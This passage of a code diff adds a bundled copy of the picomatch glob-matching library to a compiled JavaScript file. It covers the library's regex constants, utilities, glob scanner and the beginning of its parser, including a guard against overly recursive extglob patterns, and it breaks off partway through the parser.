@@ -7373,6 +7373,1782 @@ var require_dist = __commonJS({
   }
 });
 
+// node_modules/picomatch/lib/constants.js
+var require_constants = __commonJS({
+  "node_modules/picomatch/lib/constants.js"(exports2, module2) {
+    "use strict";
+    var WIN_SLASH = "\\\\/";
+    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
+    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
+    var DOT_LITERAL = "\\.";
+    var PLUS_LITERAL = "\\+";
+    var QMARK_LITERAL = "\\?";
+    var SLASH_LITERAL = "\\/";
+    var ONE_CHAR = "(?=.)";
+    var QMARK = "[^/]";
+    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
+    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
+    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
+    var NO_DOT = `(?!${DOT_LITERAL})`;
+    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
+    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
+    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
+    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
+    var STAR = `${QMARK}*?`;
+    var SEP = "/";
+    var POSIX_CHARS = {
+      DOT_LITERAL,
+      PLUS_LITERAL,
+      QMARK_LITERAL,
+      SLASH_LITERAL,
+      ONE_CHAR,
+      QMARK,
+      END_ANCHOR,
+      DOTS_SLASH,
+      NO_DOT,
+      NO_DOTS,
+      NO_DOT_SLASH,
+      NO_DOTS_SLASH,
+      QMARK_NO_DOT,
+      STAR,
+      START_ANCHOR,
+      SEP
+    };
+    var WINDOWS_CHARS = {
+      ...POSIX_CHARS,
+      SLASH_LITERAL: `[${WIN_SLASH}]`,
+      QMARK: WIN_NO_SLASH,
+      STAR: `${WIN_NO_SLASH}*?`,
+      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
+      NO_DOT: `(?!${DOT_LITERAL})`,
+      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
+      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
+      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
+      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
+      SEP: "\\"
+    };
+    var POSIX_REGEX_SOURCE = {
+      __proto__: null,
+      alnum: "a-zA-Z0-9",
+      alpha: "a-zA-Z",
+      ascii: "\\x00-\\x7F",
+      blank: " \\t",
+      cntrl: "\\x00-\\x1F\\x7F",
+      digit: "0-9",
+      graph: "\\x21-\\x7E",
+      lower: "a-z",
+      print: "\\x20-\\x7E ",
+      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
+      space: " \\t\\r\\n\\v\\f",
+      upper: "A-Z",
+      word: "A-Za-z0-9_",
+      xdigit: "A-Fa-f0-9"
+    };
+    module2.exports = {
+      DEFAULT_MAX_EXTGLOB_RECURSION,
+      MAX_LENGTH: 1024 * 64,
+      POSIX_REGEX_SOURCE,
+      // regular expressions
+      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
+      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
+      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
+      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
+      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
+      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
+      // Replace globs with equivalent patterns to reduce parsing time.
+      REPLACEMENTS: {
+        __proto__: null,
+        "***": "*",
+        "**/**": "**",
+        "**/**/**": "**"
+      },
+      // Digits
+      CHAR_0: 48,
+      /* 0 */
+      CHAR_9: 57,
+      /* 9 */
+      // Alphabet chars.
+      CHAR_UPPERCASE_A: 65,
+      /* A */
+      CHAR_LOWERCASE_A: 97,
+      /* a */
+      CHAR_UPPERCASE_Z: 90,
+      /* Z */
+      CHAR_LOWERCASE_Z: 122,
+      /* z */
+      CHAR_LEFT_PARENTHESES: 40,
+      /* ( */
+      CHAR_RIGHT_PARENTHESES: 41,
+      /* ) */
+      CHAR_ASTERISK: 42,
+      /* * */
+      // Non-alphabetic chars.
+      CHAR_AMPERSAND: 38,
+      /* & */
+      CHAR_AT: 64,
+      /* @ */
+      CHAR_BACKWARD_SLASH: 92,
+      /* \ */
+      CHAR_CARRIAGE_RETURN: 13,
+      /* \r */
+      CHAR_CIRCUMFLEX_ACCENT: 94,
+      /* ^ */
+      CHAR_COLON: 58,
+      /* : */
+      CHAR_COMMA: 44,
+      /* , */
+      CHAR_DOT: 46,
+      /* . */
+      CHAR_DOUBLE_QUOTE: 34,
+      /* " */
+      CHAR_EQUAL: 61,
+      /* = */
+      CHAR_EXCLAMATION_MARK: 33,
+      /* ! */
+      CHAR_FORM_FEED: 12,
+      /* \f */
+      CHAR_FORWARD_SLASH: 47,
+      /* / */
+      CHAR_GRAVE_ACCENT: 96,
+      /* ` */
+      CHAR_HASH: 35,
+      /* # */
+      CHAR_HYPHEN_MINUS: 45,
+      /* - */
+      CHAR_LEFT_ANGLE_BRACKET: 60,
+      /* < */
+      CHAR_LEFT_CURLY_BRACE: 123,
+      /* { */
+      CHAR_LEFT_SQUARE_BRACKET: 91,
+      /* [ */
+      CHAR_LINE_FEED: 10,
+      /* \n */
+      CHAR_NO_BREAK_SPACE: 160,
+      /* \u00A0 */
+      CHAR_PERCENT: 37,
+      /* % */
+      CHAR_PLUS: 43,
+      /* + */
+      CHAR_QUESTION_MARK: 63,
+      /* ? */
+      CHAR_RIGHT_ANGLE_BRACKET: 62,
+      /* > */
+      CHAR_RIGHT_CURLY_BRACE: 125,
+      /* } */
+      CHAR_RIGHT_SQUARE_BRACKET: 93,
+      /* ] */
+      CHAR_SEMICOLON: 59,
+      /* ; */
+      CHAR_SINGLE_QUOTE: 39,
+      /* ' */
+      CHAR_SPACE: 32,
+      /*   */
+      CHAR_TAB: 9,
+      /* \t */
+      CHAR_UNDERSCORE: 95,
+      /* _ */
+      CHAR_VERTICAL_LINE: 124,
+      /* | */
+      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
+      /* \uFEFF */
+      /**
+       * Create EXTGLOB_CHARS
+       */
+      extglobChars(chars) {
+        return {
+          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
+          "?": { type: "qmark", open: "(?:", close: ")?" },
+          "+": { type: "plus", open: "(?:", close: ")+" },
+          "*": { type: "star", open: "(?:", close: ")*" },
+          "@": { type: "at", open: "(?:", close: ")" }
+        };
+      },
+      /**
+       * Create GLOB_CHARS
+       */
+      globChars(win322) {
+        return win322 === true ? WINDOWS_CHARS : POSIX_CHARS;
+      }
+    };
+  }
+});
+
+// node_modules/picomatch/lib/utils.js
+var require_utils = __commonJS({
+  "node_modules/picomatch/lib/utils.js"(exports2) {
+    "use strict";
+    var {
+      REGEX_BACKSLASH,
+      REGEX_REMOVE_BACKSLASH,
+      REGEX_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_GLOBAL
+    } = require_constants();
+    exports2.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
+    exports2.hasRegexChars = (str3) => REGEX_SPECIAL_CHARS.test(str3);
+    exports2.isRegexChar = (str3) => str3.length === 1 && exports2.hasRegexChars(str3);
+    exports2.escapeRegex = (str3) => str3.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
+    exports2.toPosixSlashes = (str3) => str3.replace(REGEX_BACKSLASH, "/");
+    exports2.isWindows = () => {
+      if (typeof navigator !== "undefined" && navigator.platform) {
+        const platform = navigator.platform.toLowerCase();
+        return platform === "win32" || platform === "windows";
+      }
+      if (typeof process !== "undefined" && process.platform) {
+        return process.platform === "win32";
+      }
+      return false;
+    };
+    exports2.removeBackslashes = (str3) => {
+      return str3.replace(REGEX_REMOVE_BACKSLASH, (match) => {
+        return match === "\\" ? "" : match;
+      });
+    };
+    exports2.escapeLast = (input, char, lastIdx) => {
+      const idx = input.lastIndexOf(char, lastIdx);
+      if (idx === -1) return input;
+      if (input[idx - 1] === "\\") return exports2.escapeLast(input, char, idx - 1);
+      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
+    };
+    exports2.removePrefix = (input, state = {}) => {
+      let output = input;
+      if (output.startsWith("./")) {
+        output = output.slice(2);
+        state.prefix = "./";
+      }
+      return output;
+    };
+    exports2.wrapOutput = (input, state = {}, options = {}) => {
+      const prepend = options.contains ? "" : "^";
+      const append = options.contains ? "" : "$";
+      let output = `${prepend}(?:${input})${append}`;
+      if (state.negated === true) {
+        output = `(?:^(?!${output}).*$)`;
+      }
+      return output;
+    };
+    exports2.basename = (path14, { windows } = {}) => {
+      const segs = path14.split(windows ? /[\\/]/ : "/");
+      const last = segs[segs.length - 1];
+      if (last === "") {
+        return segs[segs.length - 2];
+      }
+      return last;
+    };
+  }
+});
+
+// node_modules/picomatch/lib/scan.js
+var require_scan = __commonJS({
+  "node_modules/picomatch/lib/scan.js"(exports2, module2) {
+    "use strict";
+    var utils = require_utils();
+    var {
+      CHAR_ASTERISK,
+      /* * */
+      CHAR_AT,
+      /* @ */
+      CHAR_BACKWARD_SLASH,
+      /* \ */
+      CHAR_COMMA,
+      /* , */
+      CHAR_DOT,
+      /* . */
+      CHAR_EXCLAMATION_MARK,
+      /* ! */
+      CHAR_FORWARD_SLASH,
+      /* / */
+      CHAR_LEFT_CURLY_BRACE,
+      /* { */
+      CHAR_LEFT_PARENTHESES,
+      /* ( */
+      CHAR_LEFT_SQUARE_BRACKET,
+      /* [ */
+      CHAR_PLUS,
+      /* + */
+      CHAR_QUESTION_MARK,
+      /* ? */
+      CHAR_RIGHT_CURLY_BRACE,
+      /* } */
+      CHAR_RIGHT_PARENTHESES,
+      /* ) */
+      CHAR_RIGHT_SQUARE_BRACKET
+      /* ] */
+    } = require_constants();
+    var isPathSeparator = (code3) => {
+      return code3 === CHAR_FORWARD_SLASH || code3 === CHAR_BACKWARD_SLASH;
+    };
+    var depth = (token) => {
+      if (token.isPrefix !== true) {
+        token.depth = token.isGlobstar ? Infinity : 1;
+      }
+    };
+    var scan = (input, options) => {
+      const opts = options || {};
+      const length = input.length - 1;
+      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
+      const slashes = [];
+      const tokens = [];
+      const parts = [];
+      let str3 = input;
+      let index2 = -1;
+      let start = 0;
+      let lastIndex = 0;
+      let isBrace = false;
+      let isBracket = false;
+      let isGlob = false;
+      let isExtglob = false;
+      let isGlobstar = false;
+      let braceEscaped = false;
+      let backslashes = false;
+      let negated = false;
+      let negatedExtglob = false;
+      let finished = false;
+      let braces = 0;
+      let prev;
+      let code3;
+      let token = { value: "", depth: 0, isGlob: false };
+      const eos = () => index2 >= length;
+      const peek = () => str3.charCodeAt(index2 + 1);
+      const advance = () => {
+        prev = code3;
+        return str3.charCodeAt(++index2);
+      };
+      while (index2 < length) {
+        code3 = advance();
+        let next;
+        if (code3 === CHAR_BACKWARD_SLASH) {
+          backslashes = token.backslashes = true;
+          code3 = advance();
+          if (code3 === CHAR_LEFT_CURLY_BRACE) {
+            braceEscaped = true;
+          }
+          continue;
+        }
+        if (braceEscaped === true || code3 === CHAR_LEFT_CURLY_BRACE) {
+          braces++;
+          while (eos() !== true && (code3 = advance())) {
+            if (code3 === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (code3 === CHAR_LEFT_CURLY_BRACE) {
+              braces++;
+              continue;
+            }
+            if (braceEscaped !== true && code3 === CHAR_DOT && (code3 = advance()) === CHAR_DOT) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (braceEscaped !== true && code3 === CHAR_COMMA) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (code3 === CHAR_RIGHT_CURLY_BRACE) {
+              braces--;
+              if (braces === 0) {
+                braceEscaped = false;
+                isBrace = token.isBrace = true;
+                finished = true;
+                break;
+              }
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_FORWARD_SLASH) {
+          slashes.push(index2);
+          tokens.push(token);
+          token = { value: "", depth: 0, isGlob: false };
+          if (finished === true) continue;
+          if (prev === CHAR_DOT && index2 === start + 1) {
+            start += 2;
+            continue;
+          }
+          lastIndex = index2 + 1;
+          continue;
+        }
+        if (opts.noext !== true) {
+          const isExtglobChar = code3 === CHAR_PLUS || code3 === CHAR_AT || code3 === CHAR_ASTERISK || code3 === CHAR_QUESTION_MARK || code3 === CHAR_EXCLAMATION_MARK;
+          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
+            isGlob = token.isGlob = true;
+            isExtglob = token.isExtglob = true;
+            finished = true;
+            if (code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
+              negatedExtglob = true;
+            }
+            if (scanToEnd === true) {
+              let parens = 0;
+              while (eos() !== true && (code3 = advance())) {
+                if (code3 === CHAR_BACKWARD_SLASH) {
+                  backslashes = token.backslashes = true;
+                  advance();
+                  continue;
+                }
+                if (code3 === CHAR_LEFT_PARENTHESES) {
+                  parens++;
+                  continue;
+                }
+                if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                  finished = true;
+                  break;
+                }
+              }
+              continue;
+            }
+            break;
+          }
+        }
+        if (code3 === CHAR_ASTERISK) {
+          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_QUESTION_MARK) {
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_LEFT_SQUARE_BRACKET) {
+          while (eos() !== true && (next = advance())) {
+            if (next === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
+              isBracket = token.isBracket = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              break;
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (opts.nonegate !== true && code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
+          negated = token.negated = true;
+          start++;
+          continue;
+        }
+        if (opts.noparen !== true && code3 === CHAR_LEFT_PARENTHESES) {
+          isGlob = token.isGlob = true;
+          if (scanToEnd === true) {
+            let parens = 1;
+            while (eos() !== true && (code3 = advance())) {
+              if (code3 === CHAR_BACKWARD_SLASH) {
+                backslashes = token.backslashes = true;
+                advance();
+                continue;
+              }
+              if (code3 === CHAR_LEFT_PARENTHESES) {
+                parens++;
+                continue;
+              }
+              if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                finished = true;
+                break;
+              }
+            }
+            continue;
+          }
+          break;
+        }
+        if (isGlob === true) {
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+      }
+      if (opts.noext === true) {
+        isExtglob = false;
+        isGlob = false;
+      }
+      let base = str3;
+      let prefix = "";
+      let glob = "";
+      if (start > 0) {
+        prefix = str3.slice(0, start);
+        str3 = str3.slice(start);
+        lastIndex -= start;
+      }
+      if (base && isGlob === true && lastIndex > 0) {
+        base = str3.slice(0, lastIndex);
+        glob = str3.slice(lastIndex);
+      } else if (isGlob === true) {
+        base = "";
+        glob = str3;
+      } else {
+        base = str3;
+      }
+      if (base && base !== "" && base !== "/" && base !== str3) {
+        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
+          base = base.slice(0, -1);
+        }
+      }
+      if (opts.unescape === true) {
+        if (glob) glob = utils.removeBackslashes(glob);
+        if (base && backslashes === true) {
+          base = utils.removeBackslashes(base);
+        }
+      }
+      const state = {
+        prefix,
+        input,
+        start,
+        base,
+        glob,
+        isBrace,
+        isBracket,
+        isGlob,
+        isExtglob,
+        isGlobstar,
+        negated,
+        negatedExtglob
+      };
+      if (opts.tokens === true) {
+        state.maxDepth = 0;
+        if (!isPathSeparator(code3)) {
+          tokens.push(token);
+        }
+        state.tokens = tokens;
+      }
+      if (opts.parts === true || opts.tokens === true) {
+        let prevIndex;
+        for (let idx = 0; idx < slashes.length; idx++) {
+          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start;
+          const i = slashes[idx];
+          const value2 = input.slice(n2, i);
+          if (opts.tokens) {
+            if (idx === 0 && start !== 0) {
+              tokens[idx].isPrefix = true;
+              tokens[idx].value = prefix;
+            } else {
+              tokens[idx].value = value2;
+            }
+            depth(tokens[idx]);
+            state.maxDepth += tokens[idx].depth;
+          }
+          if (i >= start) {
+            parts.push(value2);
+            prevIndex = i;
+          }
+        }
+        const n = prevIndex !== void 0 ? prevIndex + 1 : start;
+        const value = input.slice(n);
+        parts.push(value);
+        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
+          tokens[tokens.length - 1].value = value;
+          depth(tokens[tokens.length - 1]);
+          state.maxDepth += tokens[tokens.length - 1].depth;
+        }
+        state.slashes = slashes;
+        state.parts = parts;
+      }
+      return state;
+    };
+    module2.exports = scan;
+  }
+});
+
+// node_modules/picomatch/lib/parse.js
+var require_parse = __commonJS({
+  "node_modules/picomatch/lib/parse.js"(exports2, module2) {
+    "use strict";
+    var constants = require_constants();
+    var utils = require_utils();
+    var {
+      MAX_LENGTH,
+      POSIX_REGEX_SOURCE,
+      REGEX_NON_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_BACKREF,
+      REPLACEMENTS
+    } = constants;
+    var expandRange = (args, options) => {
+      if (typeof options.expandRange === "function") {
+        return options.expandRange(...args, options);
+      }
+      args.sort();
+      const value = `[${args.join("-")}]`;
+      try {
+        new RegExp(value);
+      } catch (ex) {
+        return args.map((v) => utils.escapeRegex(v)).join("..");
+      }
+      return value;
+    };
+    var syntaxError = (type, char) => {
+      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
+    };
+    var splitTopLevel = (input) => {
+      const parts = [];
+      let bracket = 0;
+      let paren = 0;
+      let quote2 = 0;
+      let value = "";
+      let escaped = false;
+      for (const ch of input) {
+        if (escaped === true) {
+          value += ch;
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          value += ch;
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote2 = quote2 === 1 ? 0 : 1;
+          value += ch;
+          continue;
+        }
+        if (quote2 === 0) {
+          if (ch === "[") {
+            bracket++;
+          } else if (ch === "]" && bracket > 0) {
+            bracket--;
+          } else if (bracket === 0) {
+            if (ch === "(") {
+              paren++;
+            } else if (ch === ")" && paren > 0) {
+              paren--;
+            } else if (ch === "|" && paren === 0) {
+              parts.push(value);
+              value = "";
+              continue;
+            }
+          }
+        }
+        value += ch;
+      }
+      parts.push(value);
+      return parts;
+    };
+    var isPlainBranch = (branch) => {
+      let escaped = false;
+      for (const ch of branch) {
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (/[?*+@!()[\]{}]/.test(ch)) {
+          return false;
+        }
+      }
+      return true;
+    };
+    var normalizeSimpleBranch = (branch) => {
+      let value = branch.trim();
+      let changed = true;
+      while (changed === true) {
+        changed = false;
+        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
+          value = value.slice(2, -1);
+          changed = true;
+        }
+      }
+      if (!isPlainBranch(value)) {
+        return;
+      }
+      return value.replace(/\\(.)/g, "$1");
+    };
+    var hasRepeatedCharPrefixOverlap = (branches) => {
+      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
+      for (let i = 0; i < values.length; i++) {
+        for (let j = i + 1; j < values.length; j++) {
+          const a = values[i];
+          const b = values[j];
+          const char = a[0];
+          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
+            continue;
+          }
+          if (a === b || a.startsWith(b) || b.startsWith(a)) {
+            return true;
+          }
+        }
+      }
+      return false;
+    };
+    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
+      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
+        return;
+      }
+      let bracket = 0;
+      let paren = 0;
+      let quote2 = 0;
+      let escaped = false;
+      for (let i = 1; i < pattern.length; i++) {
+        const ch = pattern[i];
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote2 = quote2 === 1 ? 0 : 1;
+          continue;
+        }
+        if (quote2 === 1) {
+          continue;
+        }
+        if (ch === "[") {
+          bracket++;
+          continue;
+        }
+        if (ch === "]" && bracket > 0) {
+          bracket--;
+          continue;
+        }
+        if (bracket > 0) {
+          continue;
+        }
+        if (ch === "(") {
+          paren++;
+          continue;
+        }
+        if (ch === ")") {
+          paren--;
+          if (paren === 0) {
+            if (requireEnd === true && i !== pattern.length - 1) {
+              return;
+            }
+            return {
+              type: pattern[0],
+              body: pattern.slice(2, i),
+              end: i
+            };
+          }
+        }
+      }
+    };
+    var buildCharClassStar = (chars) => {
+      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
+      return `${source}*`;
+    };
+    var getStarExtglobSequenceChars = (pattern) => {
+      let index2 = 0;
+      const chars = [];
+      while (index2 < pattern.length) {
+        const match = parseRepeatedExtglob(pattern.slice(index2), false);
+        if (!match || match.type !== "*") {
+          return;
+        }
+        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
+        if (branches.length !== 1) {
+          return;
+        }
+        const branch = normalizeSimpleBranch(branches[0]);
+        if (!branch || branch.length !== 1) {
+          return;
+        }
+        chars.push(branch);
+        index2 += match.end + 1;
+      }
+      if (chars.length < 1) {
+        return;
+      }
+      return chars;
+    };
+    var repeatedExtglobRecursion = (pattern) => {
+      let depth = 0;
+      let value = pattern.trim();
+      let match = parseRepeatedExtglob(value);
+      while (match) {
+        depth++;
+        value = match.body.trim();
+        match = parseRepeatedExtglob(value);
+      }
+      return depth;
+    };
+    var analyzeRepeatedExtglob = (body, options) => {
+      if (options.maxExtglobRecursion === false) {
+        return { risky: false };
+      }
+      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
+      const branches = splitTopLevel(body).map((branch) => branch.trim());
+      if (branches.length > 1) {
+        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
+          return { risky: true };
+        }
+      }
+      const safeChars = [];
+      let sawStarSequence = false;
+      let combinable = true;
+      for (const branch of branches) {
+        const chars = getStarExtglobSequenceChars(branch);
+        if (chars) {
+          sawStarSequence = true;
+          safeChars.push(...chars);
+          continue;
+        }
+        const literal = normalizeSimpleBranch(branch);
+        if (literal && literal.length === 1) {
+          safeChars.push(literal);
+          continue;
+        }
+        combinable = false;
+        if (repeatedExtglobRecursion(branch) > max) {
+          return { risky: true };
+        }
+      }
+      if (sawStarSequence) {
+        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
+      }
+      return { risky: false };
+    };
+    var parse2 = (input, options) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected a string");
+      }
+      input = REPLACEMENTS[input] || input;
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      let len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      const bos = { type: "bos", value: "", output: opts.prepend || "" };
+      const tokens = [bos];
+      const capture = opts.capture ? "" : "?:";
+      const PLATFORM_CHARS = constants.globChars(opts.windows);
+      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
+      const {
+        DOT_LITERAL,
+        PLUS_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOT_SLASH,
+        NO_DOTS_SLASH,
+        QMARK,
+        QMARK_NO_DOT,
+        STAR,
+        START_ANCHOR
+      } = PLATFORM_CHARS;
+      const globstar = (opts2) => {
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const nodot = opts.dot ? "" : NO_DOT;
+      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
+      let star = opts.bash === true ? globstar(opts) : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      if (typeof opts.noext === "boolean") {
+        opts.noextglob = opts.noext;
+      }
+      const state = {
+        input,
+        index: -1,
+        start: 0,
+        dot: opts.dot === true,
+        consumed: "",
+        output: "",
+        prefix: "",
+        backtrack: false,
+        negated: false,
+        brackets: 0,
+        braces: 0,
+        parens: 0,
+        quotes: 0,
+        globstar: false,
+        tokens
+      };
+      input = utils.removePrefix(input, state);
+      len = input.length;
+      const extglobs = [];
+      const braces = [];
+      const stack = [];
+      let prev = bos;
+      let value;
+      const eos = () => state.index === len - 1;
+      const peek = state.peek = (n = 1) => input[state.index + n];
+      const advance = state.advance = () => input[++state.index] || "";
+      const remaining = () => input.slice(state.index + 1);
+      const consume = (value2 = "", num = 0) => {
+        state.consumed += value2;
+        state.index += num;
+      };
+      const append = (token) => {
+        state.output += token.output != null ? token.output : token.value;
+        consume(token.value);
+      };
+      const negate = () => {
+        let count = 1;
+        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
+          advance();
+          state.start++;
+          count++;
+        }
+        if (count % 2 === 0) {
+          return false;
+        }
+        state.negated = true;
+        state.start++;
+        return true;
+      };
+      const increment = (type) => {
+        state[type]++;
+        stack.push(type);
+      };
+      const decrement = (type) => {
+        state[type]--;
+        stack.pop();
+      };
+      const push = (tok) => {
+        if (prev.type === "globstar") {
+          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
+          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
+          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
+            state.output = state.output.slice(0, -prev.output.length);
+            prev.type = "star";
+            prev.value = "*";
+            prev.output = star;
+            state.output += prev.output;
+          }
+        }
+        if (extglobs.length && tok.type !== "paren") {
+          extglobs[extglobs.length - 1].inner += tok.value;
+        }
+        if (tok.value || tok.output) append(tok);
+        if (prev && prev.type === "text" && tok.type === "text") {
+          prev.output = (prev.output || prev.value) + tok.value;
+          prev.value += tok.value;
+          return;
+        }
+        tok.prev = prev;
+        tokens.push(tok);
+        prev = tok;
+      };
+      const extglobOpen = (type, value2) => {
+        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
+        token.prev = prev;
+        token.parens = state.parens;
+        token.output = state.output;
+        token.startIndex = state.index;
+        token.tokensIndex = tokens.length;
+        const output = (opts.capture ? "(" : "") + token.open;
+        increment("parens");
+        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
+        push({ type: "paren", extglob: true, value: advance(), output });
+        extglobs.push(token);
+      };
+      const extglobClose = (token) => {
+        const literal = input.slice(token.startIndex, state.index + 1);
+        const body = input.slice(token.startIndex + 2, state.index);
+        const analysis = analyzeRepeatedExtglob(body, opts);
+        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
+          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
+          const open = tokens[token.tokensIndex];
+          open.type = "text";
+          open.value = literal;
+          open.output = safeOutput || utils.escapeRegex(literal);
+          for (let i = token.tokensIndex + 1; i < tokens.length; i++) {
+            tokens[i].value = "";
+            tokens[i].output = "";
+            delete tokens[i].suffix;
+          }
+          state.output = token.output + open.output;
+          state.backtrack = true;
+          push({ type: "paren", extglob: true, value, output: "" });
+          decrement("parens");
+          return;
+        }
+        let output = token.close + (opts.capture ? ")" : "");
+        let rest;
+        if (token.type === "negate") {
+          let extglobStar = star;
+          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
+            extglobStar = globstar(opts);
+          }
+          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
+            output = token.close = `)$))${extglobStar}`;
+          }
+          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
+            const expression = parse2(rest, { ...options, fastpaths: false }).output;
+            output = token.close = `)${expression})${extglobStar})`;
+          }
+          if (token.prev.type === "bos") {
+            state.negatedExtglob = true;
+          }
+        }
+        push({ type: "paren", extglob: true, value, output });
+        decrement("parens");
+      };
+      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
+        let backslashes = false;
+        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index2) => {
+          if (first === "\\") {
+            backslashes = true;
+            return m;
+          }
+          if (first === "?") {
+            if (esc) {
+              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
+            }
+            if (index2 === 0) {
